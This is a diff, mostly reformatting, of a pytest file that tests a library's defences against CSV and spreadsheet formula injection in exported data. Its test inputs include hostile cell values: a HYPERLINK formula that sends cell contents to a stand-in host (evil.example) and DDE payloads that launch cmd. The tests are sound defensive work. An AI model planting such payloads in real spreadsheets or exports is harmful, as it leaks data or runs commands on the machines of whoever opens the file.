@@ -12,8 +12,14 @@ import pytest
 from workbook.core import paths
 from workbook.core.spreadsheet_safety import neutralise, neutralise_frame, write_csv
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -21,15 +27,17 @@ def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(attack):
     assert neutralise(attack) == "'" + attack
 
 
-@pytest.mark.parametrize("value", ["-5", "+3.2", "-1,200", "12%", "Child J", "a=b", "", None,
-                                   -4, 2.5])
+@pytest.mark.parametrize(
+    "value", ["-5", "+3.2", "-1,200", "12%", "Child J", "a=b", "", None, -4, 2.5]
+)
 def test_numbers_and_ordinary_text_are_left_alone(value):
     assert neutralise(value) == value
 
 
 def test_a_frame_is_neutralised_cell_by_cell_and_in_its_header():
-    frame = pd.DataFrame({"=id": ["=1+1", "F2"], "n": [-3, 4],
-                          "text": pd.array(["@x", pd.NA], dtype="string")})
+    frame = pd.DataFrame(
+        {"=id": ["=1+1", "F2"], "n": [-3, 4], "text": pd.array(["@x", pd.NA], dtype="string")}
+    )
     safe = neutralise_frame(frame)
     assert list(safe.columns) == ["'=id", "n", "text"]
     assert safe["'=id"].tolist() == ["'=1+1", "F2"]
@@ -45,8 +53,9 @@ def _cells(text: str) -> list[str]:
 def test_write_csv_writes_no_cell_that_starts_a_formula():
     buffer = io.StringIO()
     write_csv(pd.DataFrame({"text": ATTACKS}), buffer)
-    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
-                   for cell in _cells(buffer.getvalue()))
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in _cells(buffer.getvalue())
+    )
 
 
 def test_workbook_code_output_is_neutralised(tmp_path):
@@ -54,12 +63,15 @@ def test_workbook_code_output_is_neutralised(tmp_path):
     from workbook.run.cli import main
 
     source = tmp_path / "findings.csv"
-    pd.DataFrame({"id": ["=HYPERLINK(\"http://x\")", "+F2"],
-                  "text": ["=1+1 neglect was not recognised", "@SUM(A1) the voice of the child"]}
-                 ).to_csv(source, index=False)
+    pd.DataFrame(
+        {
+            "id": ['=HYPERLINK("http://x")', "+F2"],
+            "text": ["=1+1 neglect was not recognised", "@SUM(A1) the voice of the child"],
+        }
+    ).to_csv(source, index=False)
     assert main(["code", str(source), "--out", str(tmp_path / "coded.csv")]) == 0
     cells = _cells((tmp_path / "coded.csv").read_text(encoding="utf-8"))
-    assert "'=HYPERLINK(\"http://x\")" in cells and "'+F2" in cells
+    assert '\'=HYPERLINK("http://x")' in cells and "'+F2" in cells
     assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
 
 
@@ -69,7 +81,7 @@ def test_dfe_store_is_neutralised(tmp_path):
 
     from workbook.national.dfe import import_folder, load_store
 
-    folder = dfe_folder(tmp_path, la_name="=HYPERLINK(\"http://x\")")
+    folder = dfe_folder(tmp_path, la_name='=HYPERLINK("http://x")')
     import_folder(folder, tmp_path / "store")
     text = (tmp_path / "store" / "figures.csv").read_text(encoding="utf-8")
     assert "'=HYPERLINK" in text and not any(c.startswith("=") for c in _cells(text))
@@ -95,8 +107,20 @@ def test_indicators_csv_is_neutralised(tmp_path, capsys, monkeypatch):
         return table
 
     monkeypatch.setattr(indicators, "indicator_table", with_attack)
-    assert main(["indicators", "841", "2019-20", "--dfe-dir", str(dfe_folder(tmp_path)),
-                 "--format", "csv"]) == 0
+    assert (
+        main(
+            [
+                "indicators",
+                "841",
+                "2019-20",
+                "--dfe-dir",
+                str(dfe_folder(tmp_path)),
+                "--format",
+                "csv",
+            ]
+        )
+        == 0
+    )
     cells = _cells(capsys.readouterr().out)
     assert "'=cmd|' /C calc'!A0" in cells
     assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
@@ -106,11 +130,15 @@ def test_every_writer_in_the_library_goes_through_the_neutraliser():
     """No CSV or Excel writer bypasses spreadsheet_safety: a new one must use it, and get a
     test above."""
     library = paths.project_root() / "lib" / "workbook"
-    writers = {path.relative_to(library).as_posix()
-               for path in library.rglob("*.py")
-               if re.search(r"\.to_csv\(|\.to_excel\(|csv\.writer|DictWriter|openpyxl\.Workbook|"
-                            r"ExcelWriter|\bWorkbook\(\)|xlsxwriter\.Workbook",
-                            path.read_text(encoding="utf-8"))}
+    writers = {
+        path.relative_to(library).as_posix()
+        for path in library.rglob("*.py")
+        if re.search(
+            r"\.to_csv\(|\.to_excel\(|csv\.writer|DictWriter|openpyxl\.Workbook|"
+            r"ExcelWriter|\bWorkbook\(\)|xlsxwriter\.Workbook",
+            path.read_text(encoding="utf-8"),
+        )
+    }
     # The Excel template and the appendix workbook pass every text cell through `neutralise`
     # (tests/test_onboarding.py and tests/test_appendix.py).
     assert writers == {"core/spreadsheet_safety.py", "onboarding/template.py", "render/appendix.py"}
